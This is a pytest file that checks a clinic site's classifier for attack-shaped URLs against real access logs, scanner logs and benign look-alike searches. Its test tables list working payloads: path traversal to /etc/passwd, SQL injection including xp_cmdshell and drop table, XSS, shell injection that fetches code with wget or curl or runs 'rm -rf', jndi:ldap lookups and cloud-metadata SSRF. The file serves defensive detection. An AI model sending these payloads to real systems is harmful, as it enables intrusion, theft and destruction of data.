"""The form of attack in a page address: its families in their disguises, what is none, and real logs."""

from __future__ import annotations

import re
import time
from collections import Counter
from collections.abc import Iterator
from pathlib import Path

import pytest

from pipeline.event import PageFlag
from pipeline.pages.attacks import attack_of
from pipeline.pages.page import SitePages, read_page
from pipeline.scrub.urls import split_url
from pipeline.settings.site import Site

DATA = Path(__file__).parents[1] / "data"
SHARED = Path(__file__).parents[2] / "../shared/data"
ALMHUETTE = SHARED / "weblog-almhuette-2019/access.log"
ELASTIC = SHARED / "weblog-elastic-2015/access.log"
ZANBIL = SHARED / "weblog-zanbil-2019/access.log"
SCANNERS = SHARED / "scanners-ocatak-2016"
CROWDSEC = SHARED / "crowdsec-http-tests"
CLINIC = SitePages.of(Site(id="clinic", hosts=("clinic.example",), sensitive={"psy": ("/psy/*",)}))

with_logs = pytest.mark.skipif(not SHARED.is_dir(), reason="../shared/data is not here")

FORMS = {
    "traversal": (
        "/../../etc/passwd", "/a/..%2f..%2fb", "/%2e%2e/%2e%2e/x", "/..%252f..%252fetc/x", "/..%25252f..%25252fx",
        "/..%c0%af..%c0%afboot", "/%c0%ae%c0%ae/x", "/..%e0%80%af", "/a\\..\\..\\b",
        "/a?f=..%5c..%5cwindows%5cwin.ini", "/static../x", "/..;/manager/html", "/a?f=....//....//x",
        "/a?f=/etc/passwd", "/a?f=%2fetc%2fshadow", "/a?f=file:///etc/group", "/a?f=/proc/self/environ",
        "/a?f=c:%5cwindows%5csystem32", "/a?f=php://filter/convert.base64-encode/resource=index",
        "/a?f=WEB-INF/web.xml", "/WEB-INF/web.xml", "/cgi-bin/.%2e/.%2e/bin/sh", "/a?f=x.php%00.jpg", "/a%2500",
        "/a?f=..%u2215..%u2215x", "/a?f=%EF%BC%8E%EF%BC%8E%EF%BC%8Fx", "/a?f=Li4vLi4vLi4vY29u", "/a?f=.%00./.%00./x",
        "/a?f=..%00/x", "/%252e%252e%252fx", "/%25%32%65%25%32%65%25%32%66x", "/a?x=/var/log/nginx/access.log",
    ),
    "sql": (
        "/a?id=1+UNION+ALL+SELECT+1", "/a?id=1%2520union%2520select%25201", "/a?id=1/**/union/**/select/**/1,2",
        "/a?id=1/*!50000union*/+/*!50000select*/+1", "/a?id=-1%0aunion%0Aselect%0D1",
        "/a?id=1+union+select+password+from+users", "/a?id=1'+or+'1'='1", "/a?id=1+or+1=1", "/a?id=1+or+1=1--+-",
        "/a?id=1)+or+(1=1", "/a?id=1'/**/or/**/1=1%23", "/a?id=1+and+1=2", "/a?id=1+AND+2*3*8=6*8",
        "/a?id=1'%20AND%202*3*8=6*8%20AND%20'a'!='b", "/a?id=-1+OR+3*2%3E(0%2b5)", "/a?id=1||1=1", "/a?id=1%26%261=1",
        "/a?id=1+xor+1=1", "/a?user=admin'--", "/a?user=admin'%23", "/a?user=admin')+--+", "/a?id=1'+or+1--+",
        "/a?id=sleep(5)", "/a?id=if(now()=sysdate(),sleep(6),0)", "/a?id=1;waitfor+delay+'0:0:5'",
        "/a?id=1+waitfor%09delay+'0:0:5'--", "/a?id=pg_sleep(5)", "/a?id=benchmark(10000000,md5(1))",
        "/a?id=1+order+by+10--", "/a?id=1'+order+by+3%23", "/a?id=1;drop+table+users",
        "/a?id=1;+exec+xp_cmdshell+'dir'", "/a?id=(select+1+from+dual)", "/a?id=(SELECT+COUNT(*)+FROM+x)",
        "/a?id=1+and+extractvalue(1,concat(0x7e,version()))", "/a?t=information_schema.tables", "/a?id=@@version",
        "/a?id=1,null,null", "/a?id=chr(97)||chr(98)", "/a?id=1+into+outfile+'/tmp/x'", "/doctors/1'+or+'a'='a",
        "/a?name=x'+and+name=name--", "/a?id=%u0027+or+%u00271%u0027=%u00271", "/a?id=1%EF%BC%87+or+1=1",
    ),
    "script": (
        "/a?q=<script>alert(1)</script>", "/a?q=%3CScript%3Ealert(1)", "/a?q=%253Cscript%253E",
        "/a?q=%253C%2573cript", "/a?q=<ScRiPt%20src=//x>", "/a?q=%3Csvg/onload=alert(1)%3E",
        "/a?q=%3Csvg%0Conload%0A=x", '/a?q="><img src=x onerror=alert(1)>', '/a?q="+onmouseover="x',
        "/a?q=x'+autofocus+onfocus='x", "/a?q=javascript:alert(1)", "/a?q=java%0ascript:x", "/a?q=JaVaScRiPt%3Ax",
        "/a?q=data:text/html;base64,PHNj", "/a?q=%uff1cscript%uff1e", "/a?q=%EF%BC%9Cscript%EF%BC%9E",
        "/a?q=\\u003cscript\\u003e", "/a?q=&lt;script&gt;", "/a?q=<iframe", "/a?q=<details/open/ontoggle=x>",
        "/a?q=<x+onclick=y>", "/a?q=<!--", "/a?q=<a+href=x", "/a?q=document.cookie", "/a?q=eval(atob('x'))",
        "/a?q=alert`1`", '/"><script>x</script>', "/a/<script>x", "/a?c=;wget+http://x/y", "/a?c=|id",
        "/a?c=%7Cid%3B", "/a?c=$(curl+x)", "/a?c=`whoami`", "/a?c=%60id%60", "/a?c=a;cat+/etc/hostname_",
        "/a?c=cd+/tmp;rm+-rf+*;wget+x", "/a?x=php://input", "/a?-d+allow_url_include%3d1", "/a?x=<?php+system('id')",
        "/a?x=phpinfo()", '/a?x=O:8:"stdClass":1:{', "/index.php?s=/index/think/app/invokefunction",
        "/a?x=expect://id", "/a?x=%0d%0aSet-Cookie:a=b", "/a?x=cmd.exe",
    ),
    "lookup": (
        "/a?q=${jndi:ldap://x}", "/${jndi:ldap://x/a}", "/a?q=%24%7Bjndi%3Aldap%3A%2F%2Fx%7D",
        "/a?q=$%7B$%7B::-j%7D$%7B::-n%7Ddi:ldap://x%7D", "/a?q=${${lower:j}ndi:x}",
        "/a?q=${${env:X:-j}ndi${env:X:-:}rmi}", "/a?q=${lower:x}", "/a?q=${7*7}", "/a?q={{7*7}}",
        "/a?q=%7B%7B7*7%7D%7D", "/a?q={{config}}", "/a?q={{config.__class__}}", "/a?q={{''.__class__}}",
        "/a?q=${@print(1)}", "/a?q=%23%7B7*7%7D", "/a?q=%25%7B(%23x)%7D", "/a?q=<%25=7*7%25>",
        "/a?q=*)(uid=*))(|(uid=*", "/a?u=gopher://x", "/a?u=http://169.254.169.254/latest",
        "/a?class.module.classLoader.x=1",
    ),
    "dotfile": (
        "/.env", "/.git/config", "/.ENV", "/%2eenv", "/a/.git/HEAD", "/.DS_Store", "/.vscode/sftp.json",
        "/.aws/credentials", "/.htpasswd", "/.wp-trc.php", "/wp-config.php", "/wp-config.php.bak", "/wp-config.php~",
        "/index.php~", "/index.php.bak", "/backup.sql", "/backup.zip", "/site.tar.gz", "/www.rar", "/2024-backup.tgz",
        "/configuration.php", "/config.php", "/config.json", "/config/config.yml", "/conf.ini.php", "/id_rsa",
        "/a?file=configuration.php", "/a?file=.env", "/web.config", "/composer.json", "/.well-known-not/x",
        "/.well-known/.env",
    ),
    "cms_door": (
        "/wp-login.php", "/wp-login.php?action=register", "//wp-login.php", "/wp%2dlogin.php", "/WP-LOGIN.PHP",
        "/blog/wp-admin/", "/wp-admin/admin-ajax.php", "/xmlrpc.php", "/wp-inc.php", "/wp-content/uploads/2020/x.php",
        "/wp-content/plugins/x/y.php?z=1", "/wp-json/wp/v2/users", "/administrator", "/administrator/index.php",
        "//administrator/index.php", "/bitrix/admin/", "/bitrix/admin/index.php?login=yes", "/phpmyadmin/",
        "/phpMyAdmin/index.php", "/pma/index.php", "/adminer.php", "/admin.php", "/admin/login.php",
        "/admin_login.php", "/cgi-bin/x.cgi", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
        "/solr/admin/info", "/actuator/health", "/_ignition/execute-solution", "/HNAP1/", "/boaform/admin/formLogin",
        "/GponForm/diag_Form", "/manager/html", "/jmx-console/HtmlAdaptor", "/server-status", "/owa/auth/logon.aspx",
        "/images/vuln.php", "/tmp/x.php", "/content-post.php.suspected", "/components/com_x/fileupload/",
        "/components/com_x/x.php", "/modules/mod_x/temp/", "/fckeditor/editor/filemanager/connectors/php/upload.php",
        "/index.php?option=com_x&task=ajaxupload", "/shell.php", "/typo3/",
    ),
}  # fmt: skip
NONE = (
    "/", "/doctors/ivanov", "/search?q=union+street", "/search?q=credit+union+select+committee", "/search?q=O'Brien",
    "/search?q=o%27brien", "/search?q=select+a+doctor", "/search?q=select+a+doctor+from+9+to+5",
    "/search?q=select+doctor(s)", "/search?q=headache;+select+a+doctor", "/search?q=headache;+sleep+problems",
    "/search?q=CT;+cat+scan", "/search?q=CT|cat+scan", "/search?q=diabetes;+type+2", "/search?q=heart;+echo",
    "/search?q=sleep+(8+hours)", "/search?q=sleep+better", "/search?q=1=1", "/search?q=1+or+2", "/search?q=3+and+4",
    "/search?q=order+by+phone", "/search?q=drop+foot", "/search?q=eye+drop+table", "/search?q=insert+into+vein",
    "/onload", "/onload?onload", "/a?online=1&on=2", "/a?once=3", "/prices?max=<1000", "/prices?max=%3C1000",
    "/prices?q=цена+<1000", "/prices?q=a<b", "/prices?q=p<0.05", "/prices?q=x+<+y+and+y+<+z", "/prices?q=2+*+3=6",
    "/prices?q=5>3", "/prices?price=100$", "/prices?price=$(100)", "/prices?q=50%25+discount", "/prices?q=100%",
    "/врачи/терапевт",
    "/%D0%B2%D1%80%D0%B0%D1%87%D0%B8?q=%D0%B1%D0%BE%D0%BB%D0%B8%D1%82+%D1%81%D0%BF%D0%B8%D0%BD%D0%B0",
    "/%E2%F0%E0%F7", "/search?q=болит.../ноет", "/search?q=«врач»+—+отзывы", '/search?q="врач+терапевт"',
    "/search?q='rock'+and+'roll'", "/search?q=doctor+--+best", "/search?q=a+--", "/vendor/", "/vendor/about",
    "/admin/", "/admin/index.php", "/wp-content/uploads/x.jpg", "/wp-content/uploads/2020/01/price.pdf",
    "/wp-content/themes/x/style.css", "/wp-content/", "/jobs/administrator", "/vakansii/administrator/",
    "/uslugi/vakansiya-administrator.html", "/.well-known/security.txt", "/.well-known/", "/catalog/.html",
    "/price.zip", "/files/price.xls", "/en.php", "/login.php", "/info.php", "/upload.php", "/contacts.php",
    "/index.php", "/index.php?option=com_content&view=article&id=46", "/component/users/?view=login",
    "/components/com_gallery/assets/x.css", "/users/~ivanov/", "/file.v1.2/about", "/a/./b", "/ecp", "/pma",
    "/hudson", "/manager/", "/bitrix/templates/x/img.png", "/configurator.php", "/confidential",
    "/page?back=https%3A%2F%2Fclinic.example%2Fa%3Fb%3D1", "/page?back=https%253A%252F%252Fclinic.example%252F",
    "/page?back=%2Fdoctors%2F", "/page?back=/doctors/", "/a?utm_campaign={{campaign.name}}&utm_content={{ad.id}}",
    "/a?utm_campaign={campaign_id}&utm_term={keyword}", "/doctors/${id}", "/doctors/{{slug}}",
    "/doctors/{{+item.id+}}", "/a?author=1", "/?author=1", "/a?filter[price][]=1&filter[a]=b", "/a?q=C%2B%2B",
    "/a?q=red+alert+(monday)", "/a?q=confirm+appointment+(today)", "/a?q=immune+system+(children)",
    "/a?q=upper+(lower)+jaw", "/a?q=etc", "/a?q=drugs+etc/other", "/a?q=a|b|c", "/a?f=c1%7Cc2%2Cp0", "/a?utm_content=gid|1|id|2||cid|3", "/a?q=x+<+base+1",
    "/a?q=vitamin+d;b12", "/a?q=%0Ahello", "/a?text=Complaints%3A%0D%0Ahead%3A+aches", "/a?q=java+script",
    "/a?q=javascript", "/a?data=1&file=2&class=3", "/a?q=mr+union,+select+one", "/a?d=12.05.2024&t=10:30",
    "/a?date=2024-01-01&q=10--12", "/a?q=mother's+/+father's", "/a?q='doctor'", "/a?q=Kaspersky''s",
    "/landing?gclid=Cj0KCQ--abc&q=x", "/a?q=blood+group+(A)", "/a?q=http://clinic.example/a", "/a?x=1;y=2",
    "/a?q=1/2", "/a?q=…/…", "/procedures/log/", "/proc/", "/prices/etc/",
)  # fmt: skip


def attack(target: str) -> str:
    path, _, query = target.partition("?")
    return attack_of(path, query)


@pytest.mark.parametrize(("family", "target"), [(family, target) for family in FORMS for target in FORMS[family]])
def test_a_form_has_its_family_in_every_disguise(family: str, target: str) -> None:
    assert attack(target) == family


@pytest.mark.parametrize("target", NONE)
def test_a_page_or_a_patients_words_are_no_attack(target: str) -> None:
    assert attack(target) == ""


def test_the_addresses_of_clinics_are_no_attack() -> None:
    clinics = (DATA / "clinic_addresses.txt").read_text(encoding="utf-8").splitlines()
    rows = (DATA / "ordinary_paths.tsv").read_text(encoding="utf-8").splitlines()
    paths = [line for line in clinics if line.startswith("/")] + [row.split("\t")[1] for row in rows if "\t" in row]
    assert len(paths) > 200
    # The log-in of the staff is a door of the content system on the clinic's own site too.
    assert {path: found for path in paths if (found := attack(path))} == {"/bitrix/admin": "cms_door"}


@pytest.mark.parametrize(
    ("target", "family"),
    [
        ("/wp-login.php?redirect_to=../../etc/passwd", "traversal"),
        ("/wp-admin/x?id=1+union+select+1", "sql"),
        ("/.git/../x?q=<script>", "script"),
        ("/cgi-bin/.env", "dotfile"),
        ("/a?q=${jndi:ldap://x}&r=<script>", "lookup"),
    ],
)
def test_the_injected_form_comes_before_the_place(target: str, family: str) -> None:
    assert attack(target) == family


@pytest.mark.parametrize("target", ["/doctors", "/.env", "/psy/a?q=<script>", "/wp-login.php", "/search?q=O'Brien"])
def test_the_flag_is_set_exactly_with_a_family(target: str) -> None:
    facts = read_page(f"https://clinic.example{target}", CLINIC)
    assert facts.attack == attack(target)
    assert bool(facts.flags & PageFlag.ATTACK) == (facts.attack != "")


@pytest.mark.parametrize("raw", ["https://other.example/.env", "http://203.0.113.9/wp-login.php", "/.env", ""])
def test_a_foreign_page_has_no_family(raw: str) -> None:
    facts = read_page(raw, CLINIC)
    assert (facts.attack, facts.flags & PageFlag.ATTACK) == ("", 0)


HOSTILE = (
    *("a", "%", "%25", "%2525", "%c0", "%c0%af", "%0a", "%0d%0a", "%00", "%u0027", "+", "a+b+", "..", "../", "..%5c", "....//"),
    *("/*", "/*a", "/**/", "union/**/", "union+", "union+all+", "select+", "'+or+", "or+1.1.1.1+", "or+aaaaaaaaaaaa+", "x+or+1*1"),
    *("order+by+1", "';", "'))))", "'--", "'%23", ",null", "dbms_a.", "%26%26", "||", ";+", ";update+a", ";exec+x", "into+"),
    *("<", "<a+", "<a+on", "<svg/", "</", "'on", "javascript+", "data:", "://", "${", "${a", "${${", "{{", "{{a", "%25{", "*)", ")("),
    *("!(", "(", "$(", "`", "|", "curl+-a+", "o:1:", "etc/", "proc/", "/.", "/.a", "/conf.a", "/backup", "/img", "/images/"),
    *("/components/com_", "/modules/mod_a", "/admin", "/admin-", "/wp-a", "option=com_a+", "task=upload", "~", "\\", "..\\"),
)  # fmt: skip


def seconds(text: str) -> float:
    """The least time of the processor for one address; other programs run beside the test."""
    times = []
    for _ in range(3):
        start = time.process_time()
        attack_of(f"/{text}", text)
        times.append(time.process_time() - start)
    return min(times)


@pytest.mark.parametrize("unit", HOSTILE)
def test_the_time_grows_with_the_length_and_no_faster(unit: str) -> None:
    short, long = ((unit * size)[:size] for size in (2048, 8192))
    # Four times the length: a time that grows with its square would be sixteen times as long.
    assert seconds(long) < 8 * max(seconds(short), 0.0005)


REQUEST = re.compile(r'"(?P<method>[A-Z]{3,8}) (?P<target>[^"]*?)(?: HTTP/[\d.]+)?" (?P<status>\d{3})\b')
ENDINGS = (".css", ".gif", ".gz", ".ico", ".jpg", ".js", ".png", ".svg", ".txt", ".xml")


def requests(log: Path) -> Iterator[tuple[str, str, int]]:
    """The method, the target and the status of each readable line."""
    for line in log.read_text(encoding="utf-8", errors="surrogateescape").splitlines():
        if found := REQUEST.search(line):
            yield found["method"], found["target"], int(found["status"])


def family(target: str) -> str:
    url = split_url(f"https://clinic.example{target}" if target.startswith("/") else target)
    return attack_of(url.path, url.query)


def families(log: Path) -> Counter[str]:
    return Counter(family(target) for _, target, _ in requests(log))


@with_logs
def test_the_door_knocking_of_a_real_log_is_known() -> None:
    doors = re.compile(r"/(?:wp-login\.php|administrator|(?:wordpress/|wp/|blog/)?wp-admin|admin\.php)")
    probes = [
        target
        for method, target, status in requests(ELASTIC)
        if method == "GET" and status == 404 and doors.match(target)
    ]
    assert Counter(map(family, probes)) == {"cms_door": 35}


@with_logs
def test_the_probes_of_a_real_log_are_known_but_for_bare_names_of_scripts() -> None:
    pages = [
        target
        for method, target, status in requests(ALMHUETTE)
        if status == 404 and not target.partition("?")[0].endswith(ENDINGS)
    ]
    unknown = [target for target in pages if not family(target)]
    assert len(pages) - len(unknown) >= 200
    # `/bigm.php` could be the page of a site: nothing in its form tells a back door.
    assert sum(re.search(r"/[\w.]{1,20}\.php$", target) is None for target in unknown) < 40


@with_logs
@pytest.mark.parametrize("log", [ELASTIC, ALMHUETTE, ZANBIL], ids=lambda log: log.parent.name)
def test_no_page_that_a_real_site_answered_is_an_attack(log: Path) -> None:
    answered = [target for _, target, status in requests(log) if status < 400]
    found = [target for target in answered if family(target)]
    assert len(answered) > 1000
    assert [target for target in found if "/administrator/" not in target] == []


@with_logs
@pytest.mark.parametrize(
    ("name", "least", "kinds"),
    [
        ("apache2-http-sensitive-files", 13, {"dotfile"}),
        ("bunkerweb-http-sensitive-files", 9, {"dotfile"}),
        ("litespeed-http-sensitive-files", 6, {"dotfile"}),
        ("nginx-http-sqli-probing", 14, {"sql"}),  # not `upper(` and `distinct(`, which may be words
        ("nginx-http-xss-probing", 26, {"script"}),
        ("nginx-cve-2021-41773", 2, {"traversal"}),
        ("http-bf-wordpress-bf", 9, {"cms_door"}),
        ("nginx-http-w00twoot", 2, {"cms_door"}),
    ],
)
def test_the_requests_of_a_labelled_scenario_have_its_family(name: str, least: int, kinds: set[str]) -> None:
    found = families(CROWDSEC / f"{name}.log")
    assert found.keys() - {""} == kinds
    assert found.total() - found[""] >= least


@with_logs
def test_a_scanner_shows_every_family() -> None:
    found = families(SCANNERS / "acunetix.log")
    assert found.keys() - {""} == set(FORMS)
    assert found.total() - found[""] >= 430
